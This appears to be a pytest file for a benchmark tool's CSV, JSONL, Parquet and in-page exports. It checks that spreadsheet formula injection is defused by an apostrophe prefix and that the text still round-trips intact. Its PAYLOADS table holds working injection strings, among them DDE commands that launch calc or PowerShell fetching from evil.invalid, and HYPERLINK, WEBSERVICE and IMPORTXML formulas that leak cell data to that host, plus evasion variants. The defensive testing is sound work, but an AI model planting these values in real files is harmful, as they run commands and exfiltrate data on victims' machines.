"""No cell of an exported CSV runs as a formula, in whatever column, and none is lost by that."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from playwright.sync_api import Browser

from promptbench.record import Case, MetricInfo, Prompt, Score, Turn
from promptbench.report.material import Material
from promptbench.report.page import build_page
from promptbench.report.write import write_report
from promptbench.store.database import Sitting, Store
from promptbench.store.export import export, export_turns, is_formula
from promptbench.store.turn import link_replies
from tests.browser import needs_chromium, tab_of
from tests.report.records import METRIC, cases, samples
from tests.report.records import run as reported
from tests.store.records import begin, candidate, completion, run, save

PAYLOADS = {
    "equals": '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "TAB": "\t=1+1",
    "CR": "\r=1+1",
    "LF": "\n=1+1",
    "DDE": "=cmd|'/C powershell IEX(wget evil.invalid/x)'!A0",
    "DDE in Excel's words": '=DDE("cmd";"/C calc";"x")',
    "a web service": '=WEBSERVICE("https://evil.invalid/"&A1)',
    "Google's import": '=IMPORTXML(CONCAT("https://evil.invalid/",A1),"//a")',
    "spaces": "   =1+1",
    "a space without a break": "\xa0=1+1",
    "a byte order mark": "\ufeff=1+1",
    "a character without a width": "\u200b@SUM(1)",
    "a NUL": "\0=1+1",
    "a quote": '"=1+1"',
    "a quote that ends the cell": '",=1+1,"',
    "a row of its own": 'x"\r\n=1+1,',
    "wide equals": "\uff1d1+1",
    "wide plus": "\uff0b1+1",
    "wide minus": "\uff0d1+1",
    "wide at": "\uff20SUM(1)",
    "a minus of mathematics": "\u22121+1",
    "an apostrophe": "'=1+1",
    "apostrophes and a space": "'' =1+1",
}
COUNT = 26
# These begin as no formula: what they try is to get out of their cell.
QUOTED = ("a quote that ends the cell", "a row of its own")
HARMLESS = (
    "Dear all,",
    "'Tis so",
    "1 = 1",
    "a-b",
    "a@b.example",
    "(-1)",
    "",
    " ",
    "5",
    "\u2013 so",
)


def test_count():
    assert len(PAYLOADS) == COUNT


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = Store(tmp_path / "store.sqlite")
    yield opened
    opened.close()


def fill(store: Store, text: str) -> None:
    """A run, and a chat, that have a text in all that they export."""
    prompt = Prompt(text, text, text, text)
    hostile = replace(candidate(text), prompt=prompt, model=text)
    made = replace(
        run(text, names=[text]),
        candidates=(hostile,),
        metrics=(MetricInfo(text, text, "higher"), MetricInfo("change", "change", "higher", None)),
    )
    other = [Case(text, {}, ()), Case("error", {}, ())]
    store.begin(made, Sitting("plan", 0, fresh=False), other)
    save(store, text, replace(completion("one", text), finish_reason=text), (0, 0, 0))
    save(store, text, completion("two", "", error=text), (0, 1, 0))
    scores = [Score(text, None, text), Score("change", -0.5)]
    store.save_scores(text, [((0, 0, 0), scores)])
    turn = Turn(text, text, 0, 1, text, text, "", text, (), text, -0.5, text)
    link_replies(store, text, {}, [(0, None, turn)])


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def restored(cell: str) -> str:
    """What docs tell who reads the file with a program: an apostrophe goes where one was put."""
    return cell[1:] if cell.startswith("'") and is_formula(cell) else cell


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_spreadsheet_runs_no_cell_and_a_program_gets_all_back(
    store: Store, tmp_path: Path, name: str
):
    text = PAYLOADS[name]
    fill(store, text)
    export(store, text, "csv", tmp_path / "run.csv")
    export_turns(store, text, "csv", tmp_path / "turns.csv")
    head, first, second = cells(tmp_path / "run.csv")
    turns, turn = cells(tmp_path / "turns.csv")
    assert {len(first), len(second)} == {len(head)} == {17} and len(turn) == len(turns) == 16
    assert where(head, first, text) == {*NAMES, "case", "output", "finish_reason", "of the metric"}
    assert where(head, second, text) == {*NAMES, "error"}
    assert where(turns, turn, text) == {"run", "candidate", "dialogue", "user", "reply", *OF_A_TURN}
    own = [cell for row in (head, first, second, turn) for cell in row if text in cell]
    for cell in own:
        assert cell.startswith("'") or name in QUOTED
        assert restored(cell) in (text, f"{text} unscored")


NAMES = ("run", "candidate", "prompt", "model")
OF_A_TURN = ("summary", "rule")


def where(head: list[str], row: list[str], text: str) -> set[str]:
    """The columns in which a row holds a text; a metric has a hostile name itself."""
    found = (name for name, cell in zip(head, row, strict=True) if text in cell)
    return {"of the metric" if text in name else name for name in found}


@pytest.mark.parametrize("name", PAYLOADS)
def test_other_tables_hold_the_text_as_it_is(store: Store, tmp_path: Path, name: str):
    text = PAYLOADS[name]
    fill(store, text)
    for kind in ("jsonl", "parquet"):
        path = tmp_path / f"run.{kind}"
        export(store, text, kind, path)
        if kind == "jsonl":
            first = json.loads(path.read_text(encoding="utf-8").split("\n")[0])
        else:
            first = pd.read_parquet(path).to_dict(orient="records")[0]
        assert (first["output"], first["candidate"], first["case"]) == (text, text, text)
        assert first["change"] == -0.5


PAGE = """([texts]) => {
  const data = { cases: texts.map((id) => ({ id, cluster: id })), value: () => -0.5 };
  bench.meta.candidates.forEach((each) => { each.name = texts[0]; });
  return bench.table.csv(data, { list: texts.map((_, place) => place) });
}"""


@needs_chromium
def test_the_page_s_own_csv_does_the_same(browser: Browser, tmp_path: Path):
    made = reported("a")
    page = build_page(Material(made, cases(2), samples({"a": (0.5, 0.6)})))
    texts = [*PAYLOADS.values(), *HARMLESS]
    with tab_of(browser) as tab:
        tab.open(write_report(page, tmp_path).as_uri())
        tab.page.wait_for_selector("html[data-whole]", state="attached")
        (tmp_path / "page.csv").write_bytes(tab.page.evaluate(PAGE, [texts]).encode())
        assert tab.complaints == []
    head, *rows = cells(tmp_path / "page.csv")
    assert restored(head[2]) == f"{texts[0]} {METRIC}"
    for text, row in zip(texts, rows, strict=True):
        assert row == [f"'{text}" if is_formula(text) else text] * 2 + ["-0.5"]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text: str):
    assert not is_formula(text)


def test_numbers_stay_numbers(store: Store, tmp_path: Path):
    fill(store, "-0.5")
    export(store, "-0.5", "csv", tmp_path / "run.csv")
    head, first, _ = cells(tmp_path / "run.csv")
    found = dict(zip(head, first, strict=True))
    assert (found["output"], found["change"], found["seconds"]) == ("'-0.5", "-0.5", "0.5")
    frame = pd.read_csv(tmp_path / "run.csv")
    assert frame["change"].tolist()[0] == -0.5 and frame["output"].tolist()[0] == "'-0.5"
    export_turns(store, "-0.5", "csv", tmp_path / "turns.csv")
    assert pd.read_csv(tmp_path / "turns.csv")["mood"].tolist() == [-0.5]
    for number in (-0.5, -1, float("-inf"), None, True):
        assert not is_formula(number)


def test_a_carriage_return_begins_no_row(store: Store, tmp_path: Path):
    text = "fine\r=HYPERLINK(A1)\r\nend"
    begin(store)
    save(store, "mail-1", completion("one", text), (0, 0, 0))
    export(store, "mail-1", "csv", tmp_path / "run.csv")
    head, *rows = cells(tmp_path / "run.csv")
    assert len(rows) == 6
    assert rows[0][head.index("output")] == text
